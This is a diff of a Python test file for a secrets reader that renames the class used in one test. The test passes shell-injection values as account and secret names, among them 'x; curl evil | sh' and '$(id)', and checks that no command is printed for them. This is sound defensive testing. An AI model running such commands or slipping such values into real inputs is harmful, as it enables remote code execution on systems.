@@ -189,7 +189,7 @@ async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked
 
 @pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
 def test_no_command_is_printed_with_a_name_that_a_shell_would_interpret(account: str, name: str) -> None:
-    assert reader.commands(reader.Reader(NAMESPACE, account), name) == ""
+    assert reader.commands(reader.SecretAccount(NAMESPACE, account), name) == ""
 
 
 async def test_what_is_no_text_is_refused() -> None:
